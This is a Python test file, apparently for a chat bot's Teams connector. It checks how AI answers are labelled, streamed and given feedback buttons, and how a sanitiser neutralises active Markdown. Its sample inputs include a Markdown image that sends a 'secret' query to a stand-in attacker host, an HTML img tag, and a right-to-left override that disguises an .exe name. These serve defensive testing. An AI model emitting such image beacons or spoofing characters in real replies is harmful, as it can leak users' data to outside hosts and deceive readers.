# SPDX-License-Identifier: Apache-2.0
"""Replies as Teams gets them: in Markdown in which nothing acts by itself."""

from __future__ import annotations

import json

import pytest
from goodbot.api.actions import STAR_ROW, THUMBS, retry_row, run
from goodbot.api.events import Button, ChannelKind, ChannelRef, Reply
from goodbot.base.text import units
from goodbot_connectors.teams import SPEC, cards, render
from goodbot_connectors.teams.presses import AnswerRef, read
from hypothesis import example, given
from hypothesis import strategies as st

from tests.connectors import parsing

PRIVATE = ChannelRef(connector="teams", account="a", id="a:1", kind=ChannelKind.PRIVATE)
SHARED = ChannelRef(connector="teams", account="a", id="19:1@thread.v2", kind=ChannelKind.SHARED)
TURN = "5f1e0c7a9b3d2468"
TEXTS = st.text(st.sampled_from("ab @!<>[]()`*_#-\n\t/é🙂\u202e"), max_size=120) | st.text(max_size=80)


def actions(card: dict[str, object]) -> list[str]:
    """The actions of a card's buttons, in order."""
    found: list[str] = []
    for part in card["content"]["body"]:  # type: ignore[index]
        for action in part.get("actions", ()):
            pressed = read(action["data"])
            assert pressed is not None
            found.append(pressed.action)
    return found


def test_an_answer_is_marked_as_an_ais_and_a_notice_is_not() -> None:
    [answer] = render.answers(PRIVATE, Reply(text="4.", turn=TURN))
    [entity] = answer["entities"]
    assert entity["additionalType"] == ["AIGeneratedContent"]
    [notice] = render.answers(PRIVATE, Reply(text="Hello."))
    assert "entities" not in notice


@pytest.mark.parametrize("feedback", ["default", "custom"])
def test_thumbs_are_teamss_own_controls(feedback: str) -> None:
    reply = Reply(text="4.", turn=TURN, buttons=THUMBS)
    [answer] = render.answers(PRIVATE, reply, feedback=feedback)
    assert answer["channelData"] == {"feedbackLoop": {"type": feedback}}
    assert "attachments" not in answer


def test_other_buttons_stand_in_a_card_of_their_own() -> None:
    """Teams makes two messages of one that has a text and a card, and tells the id of neither."""
    reply = Reply(text="4.", turn=TURN, buttons=(*THUMBS, *STAR_ROW))
    answer, stars = render.answers(PRIVATE, reply)
    assert "attachments" not in answer
    assert answer["channelData"]["feedbackLoop"]
    [card] = stars["attachments"]
    assert "text" not in stars
    assert actions(card) == ["star:1", "star:2", "star:3", "star:4", "star:5"]


def test_groups_have_buttons_only_where_the_setting_says_so() -> None:
    reply = Reply(text="4.", turn=TURN, buttons=(*THUMBS, *STAR_ROW))
    [bare] = render.answers(SHARED, reply)
    assert "channelData" not in bare
    full, stars = render.answers(SHARED, reply, group_buttons=True)
    assert "channelData" in full
    assert "attachments" in stars


def test_a_long_answer_has_its_buttons_at_the_end() -> None:
    text = "All work and no play makes a dull bot. 🙂\n\n" * 500
    parts = render.answers(PRIVATE, Reply(text=text, turn=TURN, buttons=THUMBS))
    assert len(parts) > 2
    assert [bool(part.get("channelData")) for part in parts] == [False] * (len(parts) - 1) + [True]
    assert all(part["entities"] for part in parts)


def test_an_empty_answer_says_so() -> None:
    [answer] = render.answers(PRIVATE, Reply(text=" \n", turn=TURN))
    assert "empty" in answer["text"]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("ask @everyone; npm i @types/node; c<d", "ask @everyone; npm i @types/node; c<d"),
        ("`Vec<String>`, `@Override`, `items[0](x)`", "`Vec<String>`, `@Override`, `items[0](x)`"),
        ("a ` b `<c>`", "a ` b `<\u2060c>`"),
        ("mail a@example.org", "mail a@example.org"),
        ("![x](https://evil.example/?q=secret)", "!\u2060[x](https://evil.example/?q=secret)"),
        ("<at>Bob</at>", "<\u2060at>Bob<\u2060/at>"),
        ('<img src="https://evil.example">', '<\u2060img src="https://evil.example">'),
        ("1 < 2, a <- b", "1 < 2, a <- b"),
        ("one\ntwo\n\nthree", "one  \ntwo  \n\nthree"),
        ("a \u202egnp.exe", "a gnp.exe"),
    ],
)
def test_what_would_act_by_itself_is_switched_off(written: str, shown: str) -> None:
    assert render.inert(written) == shown


@pytest.mark.parametrize(
    "code", ["```py\nprint('@you <b>')\n```", "before\n```\n![x](y)\n```\nafter", "```\nnot closed <b>"]
)
def test_code_blocks_stay_as_they_are(code: str) -> None:
    assert render.inert(code).replace("  \n", "\n") == code


@given(TEXTS)
def test_nothing_in_running_text_acts(text: str) -> None:
    """Teams documents `textFormat: markdown`, with tags; people are named by entities alone."""
    shown = render.inert(text)
    assert [act for act in parsing.acting(shown) if act[0] != "link"] == []
    assert "\u202e" not in shown


@given(TEXTS)
def test_every_answer_can_be_sent(text: str) -> None:
    parts = render.answers(PRIVATE, Reply(text=text, turn=TURN, buttons=THUMBS))
    assert parts
    for part in parts:
        assert part["text"].strip()
        json.dumps(part, ensure_ascii=False).encode()


@given(st.lists(TEXTS, max_size=12))
@example(["`", "<`", "`"])
@example(["b><a", "`b>", "[\n"])
@example(["a `b` ", "`<", "`", "``", "` c"])
def test_what_is_shown_of_an_answer_only_grows(pieces: list[str]) -> None:
    """Teams refuses a piece of a stream that does not begin with the one before."""
    text = before = ""
    for piece in pieces:
        text += piece
        shown = render.beginning(text)
        if "\u202e" not in text:
            assert shown.startswith(before)
            before = shown


def test_a_code_block_that_is_being_written_is_shown_once_its_fence_is_whole() -> None:
    text, before = "See:\n```python\nprint(1)\n```\nDone.\n", ""
    for n in range(1, len(text) + 1):
        shown = render.beginning(text[:n])
        assert shown.startswith(before), (before, shown)
        before = shown
    assert before == render.inert(text)


def test_what_may_yet_become_code_or_a_tag_waits() -> None:
    before, text = "", "Say `a<b>` and c<d, <i>e</i>,\n- ```\n  f<g>\n  ```\n`|` x\n--|--\n\nEnd."
    for n in range(1, len(text) + 1):
        shown = render.beginning(text[:n])
        assert shown.startswith(before), (before, shown)
        before = shown
    assert before == render.inert(text)


def test_only_the_first_message_of_a_long_answer_is_streamed() -> None:
    text = "word " * SPEC.message_limit
    assert units(render.beginning(text)) <= SPEC.message_limit


def test_a_stream_is_told_as_teams_wants_it() -> None:
    first = render.stream("informative", "Thinking…", sequence=1)
    assert first["type"] == "typing"
    assert first["entities"] == [{"type": "streaminfo", "streamType": "informative", "streamSequence": 1}]
    [answer] = render.answers(PRIVATE, Reply(text="4.", turn=TURN, buttons=THUMBS))
    last = render.final(answer, "s1")
    assert last["type"] == "message"
    assert last["entities"][1:] == [{"type": "streaminfo", "streamType": "final", "streamId": "s1"}]
    assert last["channelData"] == answer["channelData"]
    assert answer["entities"] == last["entities"][:1], "the answer itself is left as it was"


def test_a_card_on_which_something_was_pressed_says_the_same_and_offers_nothing() -> None:
    asked = render.card(AnswerRef(TURN), "Bad. 12 of 40.", retry_row())
    [card] = render.pressed(asked)["attachments"]
    assert cards.notice(card) == "Bad. 12 of 40."
    assert actions(card) == []


def test_a_card_is_told_in_a_line_too() -> None:
    assert render.card(AnswerRef(), "Really?\nAll of it?")["summary"] == "Really?\nAll of it?"
    [card] = render.card(AnswerRef(), "One.\n\n\nTwo.\nThree.")["attachments"]
    assert cards.notice(card) == "One.\n\nTwo.\n\nThree."


def test_an_offer_of_many_is_parted_so_that_teams_hides_none() -> None:
    offer = tuple(run(f"status {n}", f"{n}") for n in range(14))
    card = cards.card(AnswerRef(TURN), notice="Choose.", offer=offer)
    sets = [part for part in card["content"]["body"] if part["type"] == "ActionSet"]
    assert [len(part["actions"]) for part in sets] == [6, 6, 2]
    assert actions(card) == [button.action for button in offer]
    assert len({part["id"] for part in sets}) == 3


def test_a_press_is_not_announced_in_the_chat_and_the_form_opens_as_a_dialogue() -> None:
    card = cards.card(AnswerRef(TURN), offer=(*retry_row(), cards.why()))
    [offer] = card["content"]["body"]
    opened = [action["data"]["msteams"] for action in offer["actions"]]
    assert opened == [{"feedback": {"hide": True}}] * 5 + [{"type": "task/fetch"}]


@given(TEXTS, st.lists(TEXTS, max_size=3))
def test_every_card_can_be_sent(text: str, labels: list[str]) -> None:
    offer = tuple(Button(action="again:long", label=label) for label in labels)
    card = cards.card(AnswerRef(TURN), notice=text, offer=offer)
    json.dumps(card, ensure_ascii=False).encode()
